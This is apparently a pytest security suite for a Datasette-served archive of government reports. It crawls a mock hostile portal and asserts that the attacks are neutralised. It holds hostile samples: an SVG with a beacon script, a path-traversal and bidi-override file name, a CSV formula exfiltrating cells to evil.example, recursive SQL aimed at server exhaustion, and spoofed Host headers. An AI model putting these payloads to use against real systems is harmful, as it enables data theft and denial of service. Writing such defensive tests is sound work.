"""Issue 28, the public site's security and complete downloads.

A hostile portal (written from what one was seen doing: an SVG with a BOM named ``nb.ofd``, Content-Disposition
names with path parts, controls, bidi overrides and 10 kB, a title that is a spreadsheet formula) is crawled by the
real crawl; the archive is then served by a real Datasette (``nianbao serve``) and checked over HTTP, under several
concurrent attackers, and in Chromium.
"""

from __future__ import annotations

import asyncio
import csv
import http.client
import io
import json
import os
import re
import sqlite3
import statistics
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, unquote, urlsplit

import pytest
import yaml

from .conftest import EXPECTED, REAL, copy_archive, nianbao, serving
from .test_datasette import close, site

SVG = (b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg'><script>"
       b"fetch('/pwned-fetch');new Image().src='/pwned-image';document.title='pwned'</script></svg>")
PDF = (REAL / "docs" / "hongze_2023.pdf").read_bytes() if (REAL / "docs" / "hongze_2023.pdf").exists() else None
# what the portal's Content-Disposition said: path parts, a bell and an escape, a right-to-left override, 10 kB
EVIL_NAME = "..\\..\\etc/../\x07\x1b报告\u202egpj.exe" + "长" * 1100 + ".pdf"  # 10 kB percent-encoded
FORMULA = '=HYPERLINK("http://evil.example/steal?"&A2,"点此")'
TITLE = "某市某某局2023年政府信息公开工作年度报告"
FORMULA_TITLE = FORMULA + "某市某某局2022年政府信息公开工作年度报告"
CONTROLS = re.compile("[\x00-\x1f\x7f\u200e\u200f\u202a-\u202e\u2066-\u2069]")

pytestmark = pytest.mark.skipif(PDF is None, reason="../shared/real is not beside the checkout")


class HostilePortal(BaseHTTPRequestHandler):
    """A 年报 column of two reports; the first links four attachments served by download.jsp."""

    files = {
        "1": ("image/svg+xml", 'attachment; filename="nb.ofd"', SVG),
        "2": ("application/pdf", "attachment; filename*=UTF-8''" + quote(EVIL_NAME), None),
        "3": ("application/pdf", None, None),  # no name from the server: the link's text names it
        "4": ("application/pdf", "attachment; filename*=UTF-8''" + quote("年报正文.pdf"), None),
    }

    def do_GET(self):
        if self.path == "/ndbg/":
            items = (f'<li><a href="/ndbg/1.htm">{TITLE}</a><span>2024-01-20</span></li>'
                     f'<li><a href="/ndbg/2.htm">{FORMULA_TITLE.replace("&", "&amp;")}</a><span>2023-01-20</span></li>')
            return self._send(f"<html><body><ul>{items}</ul></body></html>".encode(), "text/html; charset=utf-8")
        if self.path == "/ndbg/1.htm":
            links = ("<a href='/download.jsp?id=1'>附件1：nb.ofd</a> <a href='/download.jsp?id=2'>附件2：说明</a> "
                     "<a href='/download.jsp?id=3'>附件3：2023年政务公开统计表.pdf</a> "
                     "<a href='/download.jsp?id=4'>附件4</a>")
            page = f"<html><body><h1>{TITLE}</h1><div class='content'><p>见附件。</p>{links}</div></body></html>"
            return self._send(page.encode(), "text/html; charset=utf-8")
        if self.path == "/ndbg/2.htm":
            page = (f"<html><body><h1>{FORMULA_TITLE.replace('&', '&amp;')}</h1><div class='content'>"
                    "<p>一、总体情况。本机关依条例公开政府信息。</p></div></body></html>")
            return self._send(page.encode(), "text/html; charset=utf-8")
        if self.path.startswith("/download.jsp?id=") and self.path[17:] in self.files:
            media_type, disposition, body = self.files[self.path[17:]]
            body = body or PDF + f"\n%{self.path[17:]}\n".encode()  # each file its own bytes
            return self._send(body, media_type, disposition)
        self.send_error(404)

    def _send(self, body: bytes, media_type: str, disposition: str | None = None) -> None:
        self.send_response(200)
        self.send_header("Content-Type", media_type)
        if disposition:
            self.send_header("Content-Disposition", disposition)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory):
    """The hostile portal crawled by the real crawl."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostilePortal)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    folder = tmp_path_factory.mktemp("hostile-portal")
    registry = folder / "sites.yml"
    registry.write_text(yaml.safe_dump({"sites": [{
        "id": "hostile", "name": "某市某某局", "region": "某省/某市", "cms": "generic",
        "start_urls": [f"http://127.0.0.1:{server.server_port}/ndbg/"]}]}, allow_unicode=True), encoding="utf-8")
    data = folder / "archive"
    try:
        nianbao("crawl", "--sites", registry, "--data", data, "-s", "DOWNLOAD_DELAY=0",
                "-s", "AUTOTHROTTLE_ENABLED=False", "-s", "ROBOTSTXT_OBEY=False", "-s", "LOG_LEVEL=WARNING")
    finally:
        server.shutdown()
    return data


def get(data: Path, *paths: str):
    """The answers to `paths` from one in-process Datasette (one per call: each keeps its SQLite connections, and
    SQLite's heap limit is per process)."""
    async def fetch_all():
        datasette = site(data)
        try:
            return [await datasette.client.get(path) for path in paths]
        finally:
            close(datasette)

    answers = asyncio.run(fetch_all())
    return answers[0] if len(paths) == 1 else answers


def _db(data: Path) -> sqlite3.Connection:
    db = sqlite3.connect(f"file:{data / 'nianbao.db'}?mode=ro", uri=True)
    db.row_factory = sqlite3.Row
    return db


def _attachment(data: Path, n: str) -> sqlite3.Row:
    return _db(data).execute("SELECT v.sha256, b.media_type, d.metadata FROM documents d JOIN versions v "
                             "ON v.document_id = d.id JOIN blobs b ON b.sha256 = v.sha256 WHERE d.url LIKE ?",
                             [f"%/download.jsp?id={n}"]).fetchone()


def _offered(headers) -> tuple[str, str]:
    """(disposition type, the UTF-8 file name) of a Content-Disposition header."""
    value = headers["content-disposition"]
    kind = value.split(";")[0]
    return kind, unquote(re.search(r"filename\*=UTF-8''([^;]+)", value).group(1))


@pytest.fixture(scope="module")
def served(hostile_archive, tmp_path_factory):
    """`nianbao serve` (a real Datasette) over a copy of the hostile archive, without NIANBAO_PUBLIC_URL."""
    data = tmp_path_factory.mktemp("served") / "archive"
    copy_archive(hostile_archive, data)
    env = {k: v for k, v in os.environ.items() if k not in ("NIANBAO_PUBLIC_URL", "NIANBAO_SERVE_URL")}
    log = data.parent / "serve.log"
    with log.open("wb") as stderr, serving(data, env=env, stderr=stderr) as (url, port, _):
        yield {"url": url, "port": port, "data": data, "log": log}


def fetch(url: str, host: str | None = None, timeout: float = 60) -> tuple[int, dict, bytes, float]:
    parts = urlsplit(url)
    started = time.monotonic()
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout)
    try:
        connection.putrequest("GET", parts.path + ("?" + parts.query if parts.query else ""), skip_host=bool(host))
        if host:
            connection.putheader("Host", host)
        connection.endheaders()
        response = connection.getresponse()
        body = response.read()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, body, time.monotonic() - started
    finally:
        connection.close()


# ---------------------------------------------------------------- 1. blobs

def test_svg_attachment_is_stored_and_served_as_nothing_a_browser_runs(served):
    svg = _attachment(served["data"], "1")
    assert svg is not None, "the crawl did not archive the attachment"
    assert svg["media_type"] != "image/svg+xml"  # stored from the allow-list only
    status, headers, body, _ = fetch(f"{served['url']}/-/blob/{svg['sha256']}")
    assert status == 200 and body == SVG  # the bytes as the portal sent them, byte for byte
    assert "svg" not in headers["content-type"] and not headers["content-type"].startswith(("image/", "text/"))
    kind, name = _offered(headers)
    assert kind == "attachment" and name == "nb.ofd"
    assert "sandbox" in headers["content-security-policy"] and headers["x-content-type-options"] == "nosniff"


def test_every_blob_carries_the_sandbox_and_only_true_documents_are_inline(served):
    rows = _db(served["data"]).execute("SELECT sha256, media_type FROM blobs").fetchall()
    assert len(rows) >= 6
    for row in rows:
        _, headers, body, _ = fetch(f"{served['url']}/-/blob/{row['sha256']}")
        assert "sandbox" in headers["content-security-policy"], row["media_type"]
        kind, _ = _offered(headers)
        inline = headers["content-type"].startswith("application/pdf") and body.startswith(b"%PDF")
        assert kind == ("inline" if inline else "attachment"), (row["media_type"], headers["content-type"])


def test_each_attachment_offered_under_its_own_clean_name(served):
    names = {}
    for n in "1234":
        _, headers, _, _ = fetch(f"{served['url']}/-/blob/{_attachment(served['data'], n)['sha256']}")
        names[n] = _offered(headers)[1]
    assert names["1"] == "nb.ofd"
    assert names["3"] == "2023年政务公开统计表.pdf"  # the link's text, its 附件3： label dropped
    assert names["4"] == "年报正文.pdf"  # the server's own name
    evil = names["2"]
    assert evil.startswith("报告") and evil.endswith(".pdf")  # path parts gone, the real extension kept
    assert not CONTROLS.search(evil) and "/" not in evil and "\\" not in evil and ".." not in evil
    assert len(evil.encode("utf-8")) <= 200
    assert len(set(names.values())) == 4 and not any(TITLE in name for name in names.values())
    # the report page lists them under the same names
    report_id = _db(served["data"]).execute("SELECT id FROM reports WHERE title = ?", [TITLE]).fetchone()[0]
    page = json.loads(fetch(f"{served['url']}/-/report/{report_id}.json")[2])
    listed = {d["url"].rsplit("=", 1)[-1]: d["file_name"] for d in page["documents"] if d["role"] == "attachment"}
    assert listed == names


def test_offered_name_rules():
    from archive.media import offered_name

    assert offered_name(["evil.html"], "application/octet-stream") == "evil.html.bin"  # never saved as a page
    assert offered_name(["nb.ofd"], "application/octet-stream") == "nb.ofd"
    assert offered_name(["setup.exe"], "application/pdf") == "setup.exe.pdf"  # the served type's extension
    assert offered_name(["附件2：说明", "title"], "application/pdf") == "说明.pdf"
    assert offered_name(["附件4", "..\\a/../年报.pdf"], "application/pdf") == "年报.pdf"
    assert offered_name(["a\u202e\u2066b\x00\x1bc.pdf"], "application/pdf") == "abc.pdf"
    assert len(offered_name(["长" * 5000 + ".pdf"], "application/pdf").encode()) <= 200
    assert offered_name([None, "", " . "], "text/html") == "document.html"


@pytest.mark.browser
def test_svg_attachment_runs_no_script_in_chromium(served):
    from .test_browser import ARGS, CHROMIUM

    if not Path(CHROMIUM).exists():
        pytest.skip("Debian chromium is not installed")
    from playwright.sync_api import Error, sync_playwright

    sha = _attachment(served["data"], "1")["sha256"]
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        try:
            context = browser.new_context(accept_downloads=True)
            page = context.new_page()
            beacons, downloads = [], []
            page.on("request", lambda r: beacons.append(r.url) if "pwned" in r.url else None)
            page.on("download", lambda d: downloads.append(d.suggested_filename))
            for path in (f"/-/blob/{sha}", f"/-/blob/{sha}?download=1"):
                try:
                    page.goto(served["url"] + path)
                except Error as error:  # navigating to a download aborts the navigation
                    assert "Download is starting" in str(error) or "ERR_ABORTED" in str(error), error
                page.wait_for_timeout(500)
            assert downloads == ["nb.ofd", "nb.ofd"]  # saved, never shown
            page.goto(served["url"] + "/")
            page.set_content(f'<img src="{served["url"]}/-/blob/{sha}"><iframe src="{served["url"]}/-/blob/{sha}">'
                             "</iframe>")
            page.wait_for_timeout(1000)
            assert beacons == [] and page.title() != "pwned"
        finally:
            browser.close()


# ---------------------------------------------------------------- 2. one limited path for arbitrary SQL

CTE = "with recursive c(x) as (select 1 union all select x + 1 from c) select x from c"


def test_encoded_sql_and_where_are_gated_under_load_and_pages_stay_fast(served):
    url = served["url"]
    report_id = _db(served["data"]).execute("SELECT min(id) FROM reports").fetchone()[0]
    attacks = {"encoded sql": f"{url}/nianbao.json?%73ql={quote('select count(*) from (' + CTE + ')')}",
               "_where": f"{url}/nianbao/reports.json?_where={quote('id in (' + CTE + ')')}"}
    answers = {name: [] for name in attacks}
    stop = time.monotonic() + 12

    def attacker(name):
        while time.monotonic() < stop:
            status, _, body, seconds = fetch(attacks[name])
            answers[name].append((status, body[:400], seconds))

    threads = [threading.Thread(target=attacker, args=(name,)) for name in attacks for _ in range(3)]
    for thread in threads:
        thread.start()
    time.sleep(1)
    pages = []
    while time.monotonic() < stop - 1:
        status, _, _, seconds = fetch(f"{url}/-/report/{report_id}")
        assert status == 200
        pages.append(seconds)
        time.sleep(0.2)
    for thread in threads:
        thread.join()
    for name, seen in answers.items():
        assert seen, name
        assert all(status in (400, 503) for status, _, _ in seen), (name, [s for s, _, _ in seen])
        busy = [body for status, body, _ in seen if status == 503]
        cut = [body for status, body, _ in seen if status == 400]
        # the gate: while one runs, the others are refused, whichever way the SQL was spelt
        assert busy and all(b"busy" in body for body in busy), (name, len(busy), len(cut))
        # what ran stopped at its time limit, and said so
        assert cut and all(b"took too long" in body or b"interrupted" in body for body in cut), (name, seen[:3])
    assert statistics.median(pages) < 3.0, pages  # the report page kept answering (it was 5-12 s before)


def test_sql_parameters_decoded_like_datasette():
    from archive.site_config import carries_sql

    assert carries_sql(b"%73ql=select+1") and carries_sql(b"_wher%65=1") and carries_sql(b"a=1&sql=")
    assert carries_sql("_where=id+in+(select+1)")
    assert not carries_sql(b"q=sql%3D1") and not carries_sql(b"_search=sql") and not carries_sql(b"")


# ---------------------------------------------------------------- 3. links built per request

def test_host_race_no_answer_carries_another_requests_host(served):
    url, port = served["url"], served["port"]
    report_id = _db(served["data"]).execute("SELECT min(id) FROM reports").fetchone()[0]
    paths = [f"/-/report/{report_id}.json", "/-/feed.atom", f"/-/search.json?q={quote('年度报告')}",
             f"/-/search.atom?q={quote('年度报告')}"]
    right, evil = f"127.0.0.1:{port}", "attacker.invalid"  # not evil.example: a title names that
    wrong = []

    def visitor(i):
        host = evil if i % 2 else right
        for n in range(12):
            _, _, body, _ = fetch(url + paths[(i + n) % len(paths)], host=host)
            other = right if host == evil else evil
            if other.encode() in body or host.encode() not in body:
                wrong.append((host, paths[(i + n) % len(paths)]))

    threads = [threading.Thread(target=visitor, args=(i,)) for i in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == [], f"{len(wrong)} of 192 answers carried the other host's links: {wrong[:5]}"


def test_serve_warns_when_the_public_url_is_unset(served):
    assert "NIANBAO_PUBLIC_URL is not set" in served["log"].read_text("utf-8")


def test_public_url_wins_over_any_host_and_is_read_at_run_time(crawled, monkeypatch):
    monkeypatch.setenv("NIANBAO_PUBLIC_URL", "https://nianbao.example.org/")
    feed, figures = get(crawled["data"], "/-/feed.atom", "/nianbao/most_requests.csv?year=2021")
    assert "https://nianbao.example.org/-/report/" in feed.text and "localhost" not in feed.text
    rows = list(csv.DictReader(io.StringIO(figures.text)))
    assert rows and all(r["存档副本 archive_url"].startswith("https://nianbao.example.org/-/blob/") for r in rows)


# ---------------------------------------------------------------- 4. spreadsheet-safe exports

def test_formula_title_is_text_in_xlsx_and_guarded_in_csv(served, tmp_path):
    from openpyxl import load_workbook

    assert _db(served["data"]).execute("SELECT count(*) FROM reports WHERE title LIKE '=HYPERLINK%'").fetchone()[0] == 1
    url = served["url"]
    status, _, raw, _ = fetch(f"{url}/nianbao/report_figures.xlsx")
    assert status == 200
    sheet = load_workbook(io.BytesIO(raw)).active
    titles = [c for row in sheet.iter_rows(min_row=2) for c in row if str(c.value or "").startswith("=HYPERLINK")]
    assert titles and all(c.data_type == "s" for c in titles)  # text, not a live formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    values = list(sheet.values)
    column = values[0].index("存档副本 archive_url")  # absolute for this request, not for the sheet's own page reads
    assert all(str(row[column]).startswith(url + "/-/blob/") for row in values[1:])
    for path in ("/nianbao/report_figures.csv", "/nianbao/reports.csv?_bom=1&_dl=1", "/nianbao/report_figures.csv?_size=max"):
        text = fetch(url + path)[2].decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + FORMULA_TITLE in cells, path
        assert not any(c.startswith(("=", "@", "+")) for c in cells), path
        assert all(re.fullmatch(r"\d{4}", c) for c in [row[5] for row in csv.reader(io.StringIO(text))][1:]) \
            if path.startswith("/nianbao/report_figures") else True
    exported = nianbao("export", "--data", served["data"], "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert any(r["title"] == "'" + FORMULA_TITLE for r in rows) and not any(r["title"].startswith("=") for r in rows)
    assert {r["year"] for r in rows} == {"2022", "2023"}  # numbers stay numbers


def test_spreadsheet_guard_rule():
    from archive.export import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("=1+1", "+86 10", "-x", "@SUM(A1)", "\tx", "-3", "+1.5", "-2e3", "3", 4, None)] \
        == ["'=1+1", "'+86 10", "'-x", "'@SUM(A1)", "'\tx", "-3", "+1.5", "-2e3", "3", 4, None]


# ---------------------------------------------------------------- 5. bad numbers in URLs

HUGE = ["/-/report/99999999999999999999999", "/-/report/99999999999999999999999.json",
        "/-/agency/99999999999999999999999", "/-/search?q=年报&year=99999999999999999999999",
        "/-/search.json?q=年报&year=-99999999999999999999999", "/-/search?q=年报&page=99999999999999999999999",
        "/-/search.json?q=年报&size=99999999999999999999999", "/nianbao/reports/99999999999999999999999",
        "/nianbao/report_figures?year=99999999999999999999999", "/nianbao/most_requests?year=99999999999999999999999",
        "/nianbao/reports.json?_next=99999999999999999999999", "/nianbao/reports?_size=99999999999999999999999"]


def test_huge_numbers_give_404_or_400(crawled):
    statuses = dict(zip(HUGE, (r.status_code for r in get(crawled["data"], *HUGE))))
    assert all(status in (200, 400, 404) for status in statuses.values()), statuses
    assert statuses["/-/report/99999999999999999999999"] == 404
    assert statuses["/-/search.json?q=年报&year=-99999999999999999999999"] == 400


# ---------------------------------------------------------------- 6. complete downloads

def test_xlsx_and_csv_links_give_every_row(crawled):
    from openpyxl import load_workbook

    db = _db(crawled["data"])
    for table, count in (("report_figures", len(EXPECTED)),
                         ("cells", db.execute("SELECT count(*) FROM cells").fetchone()[0])):
        assert count > 50
        paths = (f"/nianbao/{table}.xlsx", f"/nianbao/{table}.xlsx?_size=20", f"/nianbao/{table}.csv")
        whole, small_pages, text = get(crawled["data"], *paths)
        for path, answer in zip(paths, (whole, small_pages)):  # whatever the page size
            book = load_workbook(io.BytesIO(answer.content), read_only=True)
            assert sum(1 for _ in book.active.values) == count + 1, path  # the header and every row
        assert len(list(csv.reader(io.StringIO(text.text)))) == count + 1, table
    filtered = get(crawled["data"], "/nianbao/report_figures.xlsx?year=2021&_sort=agency")
    rows = list(load_workbook(io.BytesIO(filtered.content)).active.values)
    assert len(rows) - 1 == sum(1 for e in EXPECTED if e["year"] == 2021)  # what the page shows, filtered


def test_a_querys_csv_says_where_it_stops(crawled):
    """One query's rows stop at max_returned_rows (Datasette's rule for SQL); its CSV says so in its last line."""
    from urllib.parse import quote

    cells = _db(crawled["data"]).execute("SELECT count(*) FROM cells").fetchone()[0]
    assert cells > 1000
    whole, few = get(crawled["data"], "/nianbao.csv?sql=" + quote("select row_key, column_key, number from cells"),
                     "/nianbao.csv?sql=" + quote("select row_key from cells limit 5"))
    rows = list(csv.reader(io.StringIO(whole.text)))
    assert len(rows) == 1 + 1000 + 1  # the header, one query's rows, and the line that says it stopped
    assert rows[-1][0].startswith("# 查询结果在 1,000 行处截止") and "Stopped at 1,000 rows" in rows[-1][0]
    assert [r for r in csv.reader(io.StringIO(few.text))][-1][0] != "" and "截止" not in few.text


def test_report_figures_rows_carry_archive_url_beside_source_url(crawled):
    from openpyxl import load_workbook

    db = _db(crawled["data"])
    shas = dict(db.execute("SELECT r.id, v.sha256 FROM reports r JOIN versions v ON v.id = r.source_version_id"))
    shapes = ("arrays", "objects", "array")
    figures_csv, figures_xlsx, page, *json_pages = get(
        crawled["data"], "/nianbao/report_figures.csv", "/nianbao/report_figures.xlsx", "/nianbao/report_figures",
        *(f"/nianbao/report_figures.json?_shape={shape}&_size=max" for shape in shapes))
    rows = list(csv.DictReader(io.StringIO(figures_csv.text)))
    assert len(rows) == len(EXPECTED)
    # the sample portal's address, or the names of its department portal (a report's file on its department's host)
    portal_hosts = {"127.0.0.1"} | {urlsplit(e["document"]).hostname for e in EXPECTED if "://" in e["document"]}
    for row in rows:
        assert row["source_url"].startswith("http://") and urlsplit(row["source_url"]).hostname in portal_hosts
        assert row["archive_url"] == f"http://localhost/-/blob/{shas[int(row['report_id'])]}"
    sheet = list(load_workbook(io.BytesIO(figures_xlsx.content)).active.values)
    column = sheet[0].index("存档副本 archive_url")
    assert all(str(r[column]).startswith("http://localhost/-/blob/") for r in sheet[1:])
    assert 'href="/-/blob/' in page.text
    for shape, answer in zip(shapes, json_pages):
        body = answer.json()
        rows = body if shape == "array" else body["rows"]
        links = [r["archive_url"] if isinstance(r, dict) else r[body["columns"].index("archive_url")] for r in rows]
        assert len(links) == len(EXPECTED) and all(link.startswith("http://localhost/-/blob/") for link in links)
